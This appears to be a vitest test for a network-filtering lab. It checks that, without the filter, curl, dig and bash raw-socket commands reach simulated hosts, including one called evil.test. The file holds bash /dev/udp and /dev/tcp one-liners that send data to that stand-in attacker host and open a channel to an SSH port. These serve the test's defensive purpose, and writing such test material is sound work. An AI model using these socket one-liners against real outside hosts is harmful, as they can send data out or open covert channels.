import { afterAll, beforeAll, expect, test } from 'vitest';
import { Lab, WORLD } from './lab.ts';

let lab: Lab;
beforeAll(async () => {
  lab = await Lab.start();
});
afterAll(() => lab?.stop());

test('without the filter every server of the world is reached, and the witnesses see it', () => {
  const ca = ['--cacert', lab.caPath];
  const web = lab.unfiltered(['curl', '-sS', ...ca, 'https://ok.test/a']);
  expect(web.stdout).toBe('hello from ok.test/a by GET HTTP/2.0\n');
  expect(web.seen.some(({ kind, name }) => kind === 'dns' && name === 'ok.test')).toBe(true);
  expect(web.packets.some(({ dst, dport }) => dst === WORLD.ok && dport === 443)).toBe(true);

  expect(lab.unfiltered(['curl', '-sS', '--http1.1', ...ca, 'https://evil.test:8443/a']).stdout).toContain('HTTP/1.1');
  expect(lab.unfiltered(['dig', '+short', 'alias.test', `@${WORLD.evil}`]).stdout).toContain(WORLD.ok);
  expect(lab.unfiltered(['dig', '+short', '+tcp', 'ok.test']).stdout).toContain(WORLD.ok);
  const udp = lab.unfiltered(['bash', '-c', `exec 3<>/dev/udp/${WORLD.evil}/9999; echo hi >&3; head -c3 <&3`]);
  expect(udp.stdout).toBe('hi\n');
  expect(udp.seen).toContainEqual(expect.objectContaining({ kind: 'udp', address: WORLD.evil, text: 'hi\n' }));
  expect(lab.unfiltered(['bash', '-c', `exec 3<>/dev/tcp/${WORLD.ssh}/22; head -c9 <&3`]).stdout).toBe('SSH-2.0-W');
});
